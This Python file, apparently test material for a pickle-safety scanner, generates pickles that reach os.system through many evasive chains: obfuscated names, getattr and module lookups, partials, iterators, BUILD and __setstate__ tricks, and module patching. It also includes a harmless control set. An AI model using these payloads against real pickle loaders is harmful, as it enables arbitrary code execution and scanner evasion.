# SPDX-License-Identifier: GPL-3.0-or-later
"""Chains that reach a function through others, as pickles. An expression is written in Python:

    C(G("builtins", "getattr"), C(G("importlib", "import_module"), "os"), "system")

is a call of a call; plain values stand for themselves. Shared parts are shared through the memo."""
import base64
import binascii
import bz2
import gzip
import lzma
import io
import operator
import struct
import tarfile
import zipfile
import zlib


class G:
    """A global. As a name, module and attribute are expressions too (STACK_GLOBAL)."""

    def __init__(self, module, name):
        self.module, self.name = module, name


class C:
    """A call: REDUCE."""

    def __init__(self, callee, *args):
        self.callee, self.args = callee, args


class N(C):
    """An instance: NEWOBJ."""


class I(C):
    """The same by INST (plain names alone)."""


class E:
    """An extension code: EXT1."""

    def __init__(self, code):
        self.code = code


class B:
    """An object with states given to it by BUILD, one after the other."""

    def __init__(self, obj, *states):
        self.obj, self.states = obj, states


class P:
    """An object with items put on it: kind "append", "appends", "setitems", "additems"."""

    def __init__(self, obj, kind, *items):
        self.obj, self.kind, self.items = obj, kind, items


class Do:
    """Several in a row, of which the last is the value; the others are taken off the stack."""

    def __init__(self, *parts):
        self.parts = parts


class Kw:
    """NEWOBJ_EX: class, arguments, keyword arguments."""

    def __init__(self, cls, args, kwargs):
        self.cls, self.args, self.kwargs = cls, args, kwargs


class Writer:
    def __init__(self):
        self.out = bytearray(b"\x80\x04")
        self.memo = {}

    def put(self, value):
        shared = id(value) in self.memo
        if shared:
            self.out += b"j" + struct.pack("<I", self.memo[id(value)])
            return
        self.put_new(value)
        if isinstance(value, (C, B, P, Kw, list, dict)):
            self.memo[id(value)] = number = len(self.memo)
            self.out += b"r" + struct.pack("<I", number)

    def put_text(self, code, text):
        self.out += code + struct.pack("<I", len(text)) + text

    def put_tuple(self, items):
        self.out += b"("
        for item in items:
            self.put(item)
        self.out += b"t"

    def put_new(self, value):
        if value is None:
            self.out += b"N"
        elif isinstance(value, bool):
            self.out += b"\x88" if value else b"\x89"
        elif isinstance(value, int):
            small = -2**31 <= value < 2**31
            data = value.to_bytes(4 if small else value.bit_length() // 8 + 1, "little", signed=True)
            self.out += (b"J" if small else b"\x8a" + bytes([len(data)])) + data
        elif isinstance(value, float):
            self.out += b"G" + struct.pack(">d", value)
        elif isinstance(value, str):
            self.put_text(b"X", value.encode("utf-8", "surrogatepass"))
        elif isinstance(value, bytes):
            self.put_text(b"B", value)
        elif isinstance(value, tuple):
            self.put_tuple(value)
        elif isinstance(value, list):
            self.out += b"](" if value else b"]"
            for item in value:
                self.put(item)
            self.out += b"e" if value else b""
        elif isinstance(value, dict):
            self.out += b"}(" if value else b"}"
            for key, item in value.items():
                self.put(key)
                self.put(item)
            self.out += b"u" if value else b""
        elif isinstance(value, G):
            self.put(value.module)
            self.put(value.name)
            self.out += b"\x93"
        elif isinstance(value, I):
            self.out += b"("
            for item in value.args:
                self.put(item)
            self.out += f"i{value.callee.module}\n{value.callee.name}\n".encode()
        elif isinstance(value, C):
            self.put(value.callee)
            self.put_tuple(value.args)
            self.out += b"\x81" if isinstance(value, N) else b"R"
        elif isinstance(value, E):
            self.out += b"\x82" + bytes([value.code])
        elif isinstance(value, B):
            self.put(value.obj)
            for state in value.states:
                self.put(state)
                self.out += b"b"
        elif isinstance(value, P):
            self.put_items(value)
        elif isinstance(value, Kw):
            self.put(value.cls)
            self.put(value.args)
            self.put(value.kwargs)
            self.out += b"\x92"
        elif isinstance(value, Do):
            for part in value.parts[:-1]:
                self.put(part)
                self.out += b"0"
            self.put(value.parts[-1])
        else:
            raise TypeError(value)

    def put_items(self, value):
        self.put(value.obj)
        if value.kind == "append":
            self.put(value.items[0])
            self.out += b"a"
            return
        self.out += b"("
        for item in value.items:
            self.put(item)
        self.out += {"appends": b"e", "setitems": b"u", "additems": b"\x90"}[value.kind]


def pickle_of(value):
    writer = Writer()
    writer.put(value)
    return bytes(writer.out + b".")


# ---- The chains ----------------------------------------------------------------------------------

def builtin(name):
    return G("builtins", name)


GETATTR = builtin("getattr")
IMPORT = G("importlib", "import_module")
SYSTEM = G("os", "system")
PARTIAL = G("functools", "partial")
ATTRGETTER = G("operator", "attrgetter")
ITEMGETTER = G("operator", "itemgetter")
METHODCALLER = G("operator", "methodcaller")
OS = C(IMPORT, "os")


def attribute(obj, name):
    return C(GETATTR, obj, name)


def method(obj, name, *args):
    return C(attribute(obj, name), *args)


def run(callee, command="id"):
    return C(callee, command)


def named(name):
    """os.system, its name computed."""
    return G("os", name)


def by_getattr(name):
    return run(attribute(OS, name))


NAMES = {
    "join": method("", "join", ["sys", "tem"]),
    "join_chars": method("", "join", C(builtin("map"), builtin("chr"), [115, 121, 115, 116, 101, 109])),
    "join_reversed": method("", "join", C(builtin("reversed"), "metsys")),
    "join_tuple_chr": method("", "join", (C(builtin("chr"), 115), "ystem")),
    "replace": method("syXtem", "replace", "X", "s"),
    "replace_count": method("sysXXtem", "replace", "X", ""),
    "replace_many": method("A" * 20000 + "system", "replace", "A", ""),
    "format": method("{}{}", "format", "sys", "tem"),
    "format_index": method("{1}{0}", "format", "tem", "sys"),
    "format_attr": method("{0[1]}{0[0]}", "format", ["tem", "sys"]),
    "format_map": method("{a}tem", "format_map", {"a": "sys"}),
    "percent": C(G("operator", "mod"), "%s%s", ("sys", "tem")),
    "percent_one": C(G("operator", "mod"), "sys%s", "tem"),
    "percent_dict": method("sy%(a)s", "__mod__", {"a": "stem"}),
    "percent_c": C(G("operator", "mod"), "%cystem", 115),
    "add": C(G("operator", "add"), "sys", "tem"),
    "dunder_add": method("sys", "__add__", "tem"),
    "str_add": C(builtin("str.__add__"), "sys", "tem"),
    "str_join": C(builtin("str.join"), "", ["sys", "tem"]),
    "concat": C(G("operator", "concat"), "sys", "tem"),
    "sum": C(G("functools", "reduce"), G("operator", "add"), ["s", "y", "s", "tem"]),
    "decode": method(b"system", "decode", "ascii"),
    "decode_utf16": method("system".encode("utf-16-le"), "decode", "utf_16_le"),
    "decode_utf16_mark": method("system".encode("utf-16"), "decode", "UTF-16"),
    "str_bytes": C(builtin("str"), b"system", "utf-8"),
    "str_new": N(builtin("str"), "system"),
    "rot13": C(G("codecs", "decode"), "flfgrz", "rot13"),
    "rot_13_encode": C(G("codecs", "encode"), "flfgrz", "rot-13"),
    "hex": method(C(G("codecs", "decode"), b"73797374656d", "hex"), "decode"),
    "fromhex": method(C(builtin("bytes.fromhex"), "73 79 73 74 65 6d"), "decode"),
    "unhexlify": method(C(G("binascii", "unhexlify"), "73797374656d"), "decode"),
    "b64": method(C(G("base64", "b64decode"), "c3lzdGVt"), "decode"),
    "html_numbers": method(C(G("html", "unescape"), "&#115;ys&#x54;&#101;m"), "lower"),
    "html_named": method(method(C(G("html", "unescape"), "&lt;sys&period;tem&gt;"), "strip", "<>"), "replace", ".", ""),
    "dedent": C(G("textwrap", "dedent"), "   system"),
    "basename": C(G("os.path", "basename"), "/a.b/system"),
    "splitext": C(G("operator", "getitem"), C(G("posixpath", "splitext"), "system.x"), 0),
    "splitext_end": method(C(G("operator", "getitem"), C(G("os.path", "splitext"), "a.b/.c.system"), 1), "strip", "."),
    "splitext_none": C(G("operator", "getitem"), C(G("os.path", "splitext"), "system"), 0),
    "b32": method(C(G("base64", "b32decode"), "ON4XG5DFNU======"), "decode"),
    "b85": method(C(G("base64", "b85decode"), "b9r-gWo-"), "decode"),
    "a2b_base64": method(C(G("binascii", "a2b_base64"), "c3lzdGVt"), "decode"),
    "zlib": method(C(G("zlib", "decompress"), zlib.compress(b"system")), "decode"),
    "gzip": method(C(G("gzip", "decompress"), gzip.compress(b"system", mtime=0)), "decode"),
    "bz2": method(C(G("bz2", "decompress"), bz2.compress(b"system")), "decode"),
    "lzma": method(C(G("lzma", "decompress"), lzma.compress(b"system")), "decode"),
    "unicode_escape": method(b"\\x73\\u0079stem", "decode", "unicode_escape"),
    "raw_unicode_escape": method(b"s\\u0079stem", "decode", "raw_unicode_escape"),
    "escape_decode": method(C(C(ITEMGETTER, 0), C(G("codecs", "escape_decode"), b"\\x73ystem")), "decode"),
    "slice_back": C(G("operator", "getitem"), "metsys", C(builtin("slice"), None, None, -1)),
    "slice_part": C(G("operator", "getitem"), "xsystemx", C(builtin("slice"), 1, 7)),
    "slice_step": method("s-y-s-t-e-m", "__getitem__", C(builtin("slice"), None, None, 2)),
    "upper_lower": method("SYSTEM", "lower"),
    "swapcase": method("SYSTEM", "swapcase"),
    "casefold": method("SYSTEM", "casefold"),
    "strip": method("xxsystemxx", "strip", "x"),
    "lstrip": method("  system", "lstrip"),
    "removeprefix": method("os.system", "removeprefix", "os."),
    "removesuffix": method("system.x", "removesuffix", ".x"),
    "split": C(C(ITEMGETTER, 1), method("os system", "split")),
    "split_by": C(C(ITEMGETTER, -1), method("os.system", "split", ".")),
    "partition": C(C(ITEMGETTER, 2), method("os:system", "partition", ":")),
    "translate": method("$y$tem", "translate", C(builtin("str.maketrans"), "$", "s")),
    "translate_dict": method("1ystem", "translate", {49: "s"}),
    "translate_bytes": method(method(b"$y$tem", "translate", C(builtin("bytes.maketrans"), b"$", b"s")), "decode"),
    "dict_get": method({"a": "system"}, "get", "a"),
    "dict_default": method({}, "get", "a", "system"),
    "dict_item": C(G("operator", "getitem"), {"a": "system"}, "a"),
    "dict_made": C(G("operator", "getitem"), C(builtin("dict"), [("a", "system")]), "a"),
    "dict_filled": C(G("operator", "getitem"), P(C(builtin("dict")), "setitems", "a", "system"), "a"),
    "dict_values": C(builtin("next"), C(builtin("iter"), method({"a": "system"}, "values"))),
    "setdefault": method({}, "setdefault", 1, "system"),
    "list_item": C(G("operator", "getitem"), ["x", "system"], 1),
    "list_pop": method(["x", "system"], "pop"),
    "listed_append": C(G("operator", "getitem"), P(C(builtin("list")), "append", "system"), 0),
    "next_iter": C(builtin("next"), C(builtin("iter"), ["system"])),
    "max": C(C(ITEMGETTER, 0), C(builtin("sorted"), ["system"])),
    "zip": C(C(ITEMGETTER, 1), C(builtin("next"), C(builtin("zip"), [1], ["system"]))),
    "chain": C(builtin("next"), C(G("itertools", "chain"), [], ["system"])),
    "itemgetter_two": method("", "join", C(C(ITEMGETTER, 1, 0), ["tem", "sys"])),
    "methodcaller": C(C(METHODCALLER, "lower"), "SYSTEM"),
    "methodcaller_args": C(C(METHODCALLER, "replace", "-", ""), "sys-tem"),
    "partial_join": C(C(PARTIAL, builtin("str.join"), ""), ["sys", "tem"]),
    "bytes_of_ints": method(C(builtin("bytes"), [115, 121, 115, 116, 101, 109]), "decode"),
    "bytearray": method(C(builtin("bytearray"), b"system"), "decode"),
    "to_bytes": method(method(C(builtin("int"), "126965465245037"), "to_bytes", 6, "big"), "decode"),
    "int_text": method("{}ystem", "format", C(builtin("chr"), C(builtin("int"), "73", 16))),
    "repr": method(C(builtin("repr"), "system"), "strip", "'"),
    "dict_fromkeys": C(builtin("next"), C(builtin("iter"), {"system": 1})),
    "copy": C(G("copy", "copy"), "system"),
    "cast": C(G("typing", "cast"), 1, "system"),
    "literal_eval": C(G("ast", "literal_eval"), "'system'"),
    "json": C(G("json", "loads"), '"system"'),
    "unquote": C(G("urllib.parse", "unquote"), "%73ystem"),
    "mail_unquote": method(C(G("email.utils", "unquote"), '"sys\\\\"tem"'), "replace", '"', ""),
    "glob_escape": method(C(G("glob", "escape"), "sys*tem"), "replace", "[*]", ""),
    "attr_of_instance": attribute(B(N(G("types", "SimpleNamespace")), {"n": "system"}), "n"),
    "attr_of_slots": attribute(B(N(G("types", "SimpleNamespace")), (None, {"n": "system"})), "n"),
    "partial_args": C(C(ITEMGETTER, 0), attribute(C(PARTIAL, builtin("len"), "system"), "args")),
    "multiply": C(G("operator", "concat"), C(G("operator", "mul"), "s", 1), "ystem"),
}

DICT = attribute(OS, "__dict__")
SYS_MODULES = G("sys", "modules")

CHAINS = {
    "property_get": C(attribute(C(builtin("property"), G("os", "system")), "__get__"), "id"),
    "given_with_its_call": C(builtin("list"), C(builtin("map"), G("os", "system.__call__"), ["id"])),
    "json_integer": C(Kw(G("functools", "partial"), (G("json", "loads"), "[null, -12]"), {"parse_int": G("os", "system")})),
    "json_float": C(Kw(G("functools", "partial"), (G("json", "loads"), "1.5e3"), {"parse_float": G("os", "system")})),
    "json_constant": C(Kw(G("functools", "partial"), (G("json", "loads"), '{"a": [-Infinity], "b": [true]}'),
                          {"parse_constant": G("os", "system")})),
    "set_on_a_module": Do(C(builtin("setattr"), C(IMPORT, "json"), "zz", G("os", "system")), run(G("json", "zz"))),
    "set_on_a_module_fetched": Do(C(builtin("setattr"), C(IMPORT, "json"), "zz", G("os", "system")),
                                  run(attribute(C(IMPORT, "json"), "zz"))),
    "set_on_a_module_twice": Do(C(builtin("setattr"), C(IMPORT, "json"), "zz", G("os", "getcwd")),
                                C(builtin("setattr"), C(IMPORT, "json"), "zz", G("os", "system")), run(G("json", "zz"))),
    "put_into_a_module": Do(P(G("json", "__dict__"), "setitems", "zz", G("os", "system")), run(G("json", "zz"))),
    "put_into_vars": Do(P(C(builtin("vars"), C(IMPORT, "json")), "setitems", "zz", G("os", "system")),
                        run(G("json", "zz"))),
    "updated_module": Do(C(attribute(G("json", "__dict__"), "update"), {"zz": G("os", "system")}), run(G("json", "zz"))),
    "updated_vars": Do(C(attribute(C(builtin("vars"), C(IMPORT, "json")), "update"), {"zz": G("os", "system")}),
                       run(G("json", "zz"))),
    "setitem_of_a_module": Do(C(G("operator", "setitem"), G("json", "__dict__"), "zz", G("os", "system")),
                              run(G("json", "zz"))),
    "set_name_taken": Do(C(builtin("setattr"), C(IMPORT, "json"), "dumps", G("os", "system")), run(G("json", "dumps"))),
    "set_on_a_function": Do(C(builtin("setattr"), G("json", "dumps"), "zz", G("os", "system")),
                            run(G("json", "dumps.zz"))),
    "set_in_a_chain": Do(C(builtin("setattr"), C(IMPORT, "json"), "zz", OS), run(G("json", "zz.system"))),
    "built_on_a_module": Do(B(C(IMPORT, "json"), {"zz": G("os", "system")}), run(G("json", "zz"))),
    "computed_argument": C(G("os", "system"), C(G("operator", "add"), "ec", "ho")),
    "computed_argument_inst": I(G("os", "system"), C(G("operator", "add"), "ec", "ho")),
    "computed_argument_of_fetched": C(attribute(OS, "system"), C(builtin("str"), b"echo", "ascii")),
    "computed_within_a_list": C(G("os", "system"), ["a", ("b", [C(G("operator", "add"), "ec", "ho")])]),
    "getattr": by_getattr("system"),
    "getattr_default": run(C(GETATTR, OS, "system", None)),
    "import": run(attribute(C(builtin("__import__"), "os"), "system")),
    "import_os_path": run(attribute(C(builtin("__import__"), "os.path"), "system")),
    "import_fromlist": run(attribute(attribute(C(builtin("__import__"), "os.path", None, None, ["x"]), "os"), "system")),
    "gcd_import": run(attribute(C(G("importlib._bootstrap", "_gcd_import"), "os"), "system")),
    "resolve_name": run(C(G("pkgutil", "resolve_name"), "os:system")),
    "resolve_name_dot": run(C(G("pkgutil", "resolve_name"), "os.system")),
    "locate": run(C(G("pydoc", "locate"), "os.system")),
    "getattr_static": run(C(G("inspect", "getattr_static"), OS, "system")),
    "object_getattribute": run(C(builtin("object.__getattribute__"), OS, "system")),
    "attrgetter": run(C(C(ATTRGETTER, "system"), OS)),
    "attrgetter_path": run(C(C(ATTRGETTER, "os.system"), C(IMPORT, "shutil"))),
    "attrgetter_two": run(C(C(ITEMGETTER, 1), C(C(ATTRGETTER, "getcwd", "system"), OS))),
    "methodcaller": C(C(METHODCALLER, "system", "id"), OS),
    "modules": run(attribute(C(G("operator", "getitem"), SYS_MODULES, "os"), "system")),
    "modules_get": run(attribute(method(SYS_MODULES, "get", "os"), "system")),
    "modules_get_dotted": run(attribute(C(G("sys", "modules.get"), "os"), "system")),
    "modules_itemgetter": run(attribute(C(C(ITEMGETTER, "os"), SYS_MODULES), "system")),
    "dict": run(C(G("operator", "getitem"), DICT, "system")),
    "dict_get": run(method(DICT, "get", "system")),
    "vars": run(C(G("operator", "getitem"), C(builtin("vars"), OS), "system")),
    "vars_itemgetter": run(C(C(ITEMGETTER, "system"), C(builtin("vars"), OS))),
    "dotted_dict": run(C(G("os", "__dict__.__getitem__"), "system")),
    "globals": run(attribute(C(G("operator", "getitem"), attribute(G("shutil", "rmtree"), "__globals__"), "os"), "system")),
    "builtins_of_globals": run(attribute(C(C(G("operator", "getitem"), C(builtin("vars"), C(IMPORT, "builtins")), "__import__"), "os"), "system")),
    "self_of_builtin": run(attribute(C(attribute(attribute(builtin("len"), "__self__"), "__import__"), "os"), "system")),
    "call_dunder": C(attribute(SYSTEM, "__call__"), "id"),
    "operator_call": C(G("operator", "call"), SYSTEM, "id") if hasattr(operator, "call") else run(SYSTEM),
    "partial": C(C(PARTIAL, SYSTEM, "id")),
    "partial_rest": C(C(PARTIAL, SYSTEM), "id"),
    "partial_nested": C(C(PARTIAL, C(PARTIAL, SYSTEM, "id"))),
    "partial_call": C(G("functools", "partial.__call__"), C(PARTIAL, SYSTEM, "id")),
    "partial_built": C(B(C(PARTIAL, builtin("len")), (SYSTEM, ("id",), {}, None))),
    "partial_func": run(attribute(C(PARTIAL, SYSTEM), "func")),
    "partial_newobj": C(N(PARTIAL, SYSTEM, "id")),
    "partial_getattr": run(C(C(PARTIAL, GETATTR, OS), "system")),
    "reduce": run(C(G("functools", "reduce"), GETATTR, ["path", "os", "system"], OS)),
    "reduce_one": run(C(G("functools", "reduce"), GETATTR, ("system",), OS)),
    "map_list": C(builtin("list"), C(builtin("map"), SYSTEM, ["id", "ls"])),
    "map_tuple": C(builtin("tuple"), C(builtin("map"), SYSTEM, ("id",))),
    "map_set": C(builtin("set"), C(builtin("map"), SYSTEM, ["id"])),
    "map_frozenset": C(builtin("frozenset"), C(builtin("map"), SYSTEM, ["id"])),
    "map_any": C(builtin("any"), C(builtin("map"), SYSTEM, ["id"])),
    "map_all": C(builtin("all"), C(builtin("map"), SYSTEM, ["id"])),
    "map_sum": C(builtin("sum"), C(builtin("map"), SYSTEM, ["id"])),
    "map_max": C(builtin("max"), C(builtin("map"), SYSTEM, ["id"])),
    "map_sorted": C(builtin("sorted"), C(builtin("map"), SYSTEM, ["id"])),
    "map_deque": C(G("collections", "deque"), C(builtin("map"), SYSTEM, ["id"])),
    "map_bytes": C(builtin("bytes"), C(builtin("map"), SYSTEM, ["id"])),
    "map_dict": C(builtin("dict"), C(builtin("zip"), C(builtin("map"), SYSTEM, ["id"]), [1])),
    "map_counter": C(G("collections", "Counter"), C(builtin("map"), SYSTEM, ["id"])),
    "map_next": C(builtin("next"), C(builtin("map"), SYSTEM, ["id"])),
    "map_dunder_next": method(C(builtin("map"), SYSTEM, ["id"]), "__next__"),
    "map_newobj": C(builtin("list"), N(builtin("map"), SYSTEM, ["id"])),
    "map_zip": C(builtin("list"), C(builtin("zip"), C(builtin("map"), SYSTEM, ["id"]))),
    "map_enumerate": C(builtin("next"), C(builtin("enumerate"), C(builtin("map"), SYSTEM, ["id"]))),
    "map_chain": C(builtin("list"), C(G("itertools", "chain"), [1], C(builtin("map"), SYSTEM, ["id"]))),
    "map_chain_from": C(builtin("list"), C(G("itertools", "chain.from_iterable"), [C(builtin("map"), SYSTEM, ["id"])])),
    "map_later_items": Do(*(lambda items: (C(builtin("list"), C(builtin("map"), SYSTEM, P(items, "append", "id"))),))([])),
    "map_extend": method(C(builtin("list")), "extend", C(builtin("map"), SYSTEM, ["id"])),
    "map_update": method(C(builtin("set")), "update", C(builtin("map"), SYSTEM, ["id"])),
    "map_join": method("", "join", C(builtin("map"), C(PARTIAL, builtin("str")), C(builtin("map"), SYSTEM, ["id"]))),
    "map_map": C(builtin("list"), C(builtin("map"), builtin("str"), C(builtin("map"), SYSTEM, ["id"]))),
    "map_getattr": run(C(C(ITEMGETTER, 0), C(builtin("list"), C(builtin("map"), C(PARTIAL, GETATTR, OS), ["system"])))),
    "map_import": run(attribute(C(builtin("next"), C(builtin("map"), IMPORT, ["os"])), "system")),
    "filter": C(builtin("list"), C(builtin("filter"), SYSTEM, ["id"])),
    "filterfalse": C(builtin("list"), C(G("itertools", "filterfalse"), SYSTEM, ["id"])),
    "starmap": C(builtin("list"), C(G("itertools", "starmap"), SYSTEM, [("id",)])),
    "repeat": C(builtin("next"), C(builtin("map"), SYSTEM, C(G("itertools", "repeat"), "id", 1))),
    "takewhile": C(builtin("list"), C(G("itertools", "takewhile"), SYSTEM, ["id"])),
    "iter_sentinel": C(builtin("next"), C(builtin("iter"), C(PARTIAL, SYSTEM, "id"), 1)),
    "defaultdict": C(G("operator", "getitem"), C(G("collections", "defaultdict"), C(PARTIAL, SYSTEM, "id")), "k"),
    "defaultdict_missing": method(C(G("collections", "defaultdict"), C(PARTIAL, SYSTEM, "id")), "__missing__", "k"),
    "defaultdict_format": method("{0[k]}", "format", C(G("collections", "defaultdict"), C(PARTIAL, SYSTEM, "id"))),
    "defaultdict_percent": C(G("operator", "mod"), "%(k)s", C(G("collections", "defaultdict"), C(PARTIAL, SYSTEM, "id"))),
    "popped": Do(run(SYSTEM), 1),
    "kw_sorted": C(Kw(PARTIAL, (builtin("sorted"), ["id"]), {"key": SYSTEM})),
    "kw_max": C(Kw(PARTIAL, (builtin("max"), ["id", "ls"]), {"key": SYSTEM})),
    "kw_list_sort": C(Kw(PARTIAL, (builtin("list.sort"), ["id"]), {"key": SYSTEM})),
    "newobj": C(C(G("copyreg", "__newobj__"), PARTIAL, SYSTEM, "id")),
    "method_type": C(C(G("types", "MethodType"), SYSTEM, "id")),
    "copy": run(C(G("copy", "copy"), SYSTEM)),
    "lru_cache": run(C(G("functools", "lru_cache"), SYSTEM)),
    "cache": run(C(G("functools", "cache"), SYSTEM)),
    "singledispatch": run(C(G("functools", "singledispatch"), SYSTEM)),
    "deepcopy": run(C(G("copy", "deepcopy"), SYSTEM)),
    "setstate_attr": B(N(G("types", "SimpleNamespace")), {"__setstate__": SYSTEM}, "id"),
    "setstate_slots": B(N(G("types", "SimpleNamespace")), (None, {"__setstate__": SYSTEM}), "id"),
    "setstate_user": B(N(G("collections", "UserDict")), {"__setstate__": SYSTEM}, "id"),
    "setstate_partial": B(N(G("types", "SimpleNamespace")), {"__setstate__": C(PARTIAL, SYSTEM)}, "id"),
    "append_attr": P(B(N(G("types", "SimpleNamespace")), {"append": SYSTEM}), "append", "id"),
    "appends_attr": P(B(N(G("types", "SimpleNamespace")), {"append": SYSTEM}), "appends", "id", "ls"),
    "extend_sorted": P(B(N(G("types", "SimpleNamespace")), {"extend": C(PARTIAL, C(Kw(PARTIAL, (PARTIAL, builtin("sorted")), {"key": SYSTEM})))}), "append", "id"),
    "add_attr": P(B(N(G("types", "SimpleNamespace")), {"add": SYSTEM}), "additems", "id"),
    "inst_map": C(builtin("list"), I(builtin("map"), SYSTEM, ["id"])),
    "filter_none": run(C(builtin("next"), C(builtin("filter"), None, [SYSTEM]))),
    "dict_of_functions": run(C(G("operator", "getitem"), {"f": SYSTEM}, "f")),
    "module_getattribute_bound": run(method(OS, "__getattribute__", "system")),
    "getattr_posix": run(attribute(C(IMPORT, "posix"), "system")),
    "stack_global_module": run(G(method("so", "__getitem__", C(builtin("slice"), None, None, -1)), "system")),
    "both_computed": run(G(C(G("codecs", "decode"), "bf", "rot13"), NAMES["join"])),
    "built_names": Do(B(G("json", "dumps"), (None, {"a": "os"})), B(G("json", "dumps"), (None, {"b": "system"})),
                      run(G(G("json", "dumps.a"), G("json", "dumps.b")))),
    "eval": C(builtin("list"), C(builtin("map"), builtin("eval"), ["1"])),
    "eval_getattr": C(attribute(C(IMPORT, "builtins"), "eval"), "1"),
}

# Nothing bad happens here, and nothing is said to.
HARMLESS = {
    "ordered": C(G("collections", "OrderedDict"), [("a", 1)]),
    "deque": C(G("collections", "deque"), ["os", "system"]),
    "encode": C(G("_codecs", "encode"), "os.system", "latin1"),
    "set": C(builtin("set"), ["eval"]),
    "bytearray": C(builtin("bytearray"), b"os.system"),
    "words": ["os", "system", {"__setstate__": "id", "append": "x"}],
    "append_data": B(P(C(G("collections", "deque")), "append", 1), {"append": 1}),
    "state": N(G("datetime", "timedelta"), 1),
    "slice": C(builtin("slice"), 1, 2, 3),
    "complex": C(builtin("complex"), 1, 2),
    "range": C(builtin("range"), 3),
    "reconstructed": attribute(C(G("copyreg", "_reconstructor"), G("email.message", "Message"), builtin("object"), None), "get_payload"),
}

# ---- What more of Python's own functions come to ------------------------------------------------

S = SYSTEM
TEMPLATE, FORMATTER = G("string", "Template"), G("string", "Formatter")
GETITEM = G("operator", "getitem")


def with_named(function, args, named):
    """function(*args, **named), through a partial."""
    return C(Kw(PARTIAL, (function,) + tuple(args), named))


def item(value, key):
    return C(GETITEM, value, key)


def joined(parts):
    return method("", "join", parts)


def op(name, *args):
    return C(G("operator", name), *args)


def it(name, *args):
    return C(G("itertools", name), *args)


def chrplus(code):
    """'system', its first letter by its code."""
    return op("concat", C(builtin("chr"), code), "ystem")


PAIR = C(G("collections", "namedtuple"), "P", "a b")

FIRST_NAMES = dict(NAMES)  # those that are also tried in getattr
NAMES.update({
    "template": method(C(TEMPLATE, "sys$a"), "substitute", {"a": "tem"}),
    "template_brace": method(C(TEMPLATE, "${a}tem"), "safe_substitute", {"a": "sys"}),
    "template_kw": with_named(attribute(C(TEMPLATE, "sys$a"), "substitute"), (), {"a": "tem"}),
    "template_unbound": C(G("string", "Template.substitute"), C(TEMPLATE, "sys$a"), {"a": "tem"}),
    "formatter": method(C(FORMATTER), "format", "{}{}", "sys", "tem"),
    "formatter_unbound": C(G("string", "Formatter.format"), C(FORMATTER), "{}{}", "sys", "tem"),
    "vformat": method(C(FORMATTER), "vformat", "{0}{a}", ("sys",), {"a": "tem"}),
    "format_unbound": C(builtin("str.format"), "{}{}", "sys", "tem"),
    "format_builtin_spec": C(builtin("format"), "systemxx", ".6"),
    "format_spec": method("{:.3}{}", "format", "sysxx", "tem"),
    "format_attr2": method("{0[a]}tem", "format", {"a": "sys"}),
    "format_kw": with_named(attribute("{a}tem", "format"), (), {"a": "sys"}),
    "format_zero_text": item({"la000": "system", "000la": "x"}, C(builtin("format"), "la", "05")),
    "format_zero_right": item({"0007": "system", "   7": "x"}, C(builtin("format"), 7, ">04")),
    "format_bool": item({"  1": "system", "True": "x"}, C(builtin("format"), True, "3")),
    "format_no_number": with_named(attribute("{+0}", "format"), ("x",), {"+0": "system"}),
    "format_item_no_number": method("{0[+0]}", "format", {"+0": "system", 0: "x"}),
    "str_bytearray": item({"bytearray(b'a')": "system", "b'a'": "x"},
                          C(builtin("str"), C(builtin("bytearray"), b"a"))),
    "isinstance_object": item(["x", "system"], C(builtin("isinstance"), 1, builtin("object"))),
    "percent_prec": op("mod", "%.3s%s", ("sysxx", "tem")),
    "percent_width": op("mod", "%1s%s", ("sys", "tem")),
    "percent_list": op("mod", "%(a)s%(b)s", {"a": "sys", "b": "tem"}),
    "percent_i": op("concat", C(builtin("chr"), C(builtin("int"), op("mod", "%03d", 115))), "ystem"),
    "nt": attribute(C(PAIR, "x", "system"), "b"),
    "nt_index": item(C(PAIR, "x", "system"), 1),
    "nt_make": attribute(method(PAIR, "_make", ["x", "system"]), "b"),
    "nt_replace": attribute(with_named(attribute(C(PAIR, "x", "y"), "_replace"), (), {"b": "system"}), "b"),
    "nt_asdict": item(method(C(PAIR, "x", "system"), "_asdict"), "b"),
    "nt_fields": item(attribute(C(G("collections", "namedtuple"), "P", "a system"), "_fields"), 1),
    "nt_fields_list": item(attribute(C(G("collections", "namedtuple"), "P", ["a", "system"]), "_fields"), 1),
    "nt_name": attribute(C(G("collections", "namedtuple"), "system", "a"), "__name__"),
    "type_name": attribute(C(builtin("type"), "system", (), {}), "__name__"),
    "type_attr": attribute(C(builtin("type"), "X", (), {"a": "system"}), "a"),
    "type_inst_attr": attribute(C(C(builtin("type"), "X", (), {"a": "system"})), "a"),
    "xor": chrplus(op("xor", 115 ^ 42, 42)),
    "sub": chrplus(op("sub", 215, 100)),
    "or": chrplus(op("or_", 64, 51)),
    "and": chrplus(op("and_", 499, 127)),
    "floordiv": chrplus(op("floordiv", 231, 2)),
    "lshift": chrplus(op("add", op("lshift", 57, 1), 1)),
    "rshift": chrplus(op("rshift", 230, 1)),
    "neg": chrplus(op("neg", -115)),
    "invert": chrplus(op("invert", -116)),
    "pow": chrplus(op("sub", op("pow", 2, 7), 13)),
    "mulint": chrplus(op("mul", 23, 5)),
    "powb": chrplus(op("sub", C(builtin("pow"), 2, 7), 13)),
    "abs": chrplus(C(builtin("abs"), -115)),
    "divmod": chrplus(item(C(builtin("divmod"), 231, 2), 0)),
    "sumint": chrplus(C(builtin("sum"), [100, 15])),
    "lenint": chrplus(C(builtin("len"), "x" * 115)),
    "ordint": chrplus(C(builtin("ord"), "s")),
    "round": chrplus(C(builtin("round"), 115)),
    "int_sub": chrplus(method(215, "__sub__", 100)),
    "int_xor": chrplus(method(115 ^ 42, "__xor__", 42)),
    "int_radd": chrplus(method(100, "__radd__", 15)),
    "int_and": chrplus(method(499, "__and__", 127)),
    "int_or": chrplus(method(64, "__or__", 51)),
    "int_neg": chrplus(method(-115, "__neg__")),
    "int_float": chrplus(C(builtin("int"), "0x73", 0)),
    "int_unbound": chrplus(C(builtin("int.__add__"), 100, 15)),
    "from_bytes": chrplus(C(builtin("int.from_bytes"), b"s", "big")),
    "count": chrplus(op("countOf", [1] * 115, 1)),
    "indexof": chrplus(op("indexOf", list(range(116)), 115)),
    "str_index": joined(C(builtin("map"), attribute("metsy", "__getitem__"), [3, 4, 3, 2, 1, 0])),
    "accumulate": item(C(builtin("list"), it("accumulate", ["s", "y", "s", "tem"])), -1),
    "accumulate_f": item(C(builtin("list"), it("accumulate", ["s", "y", "s", "tem"], G("operator", "concat"))), -1),
    "compress": joined(it("compress", "sxyxsxtxexmx", [1, 0] * 6)),
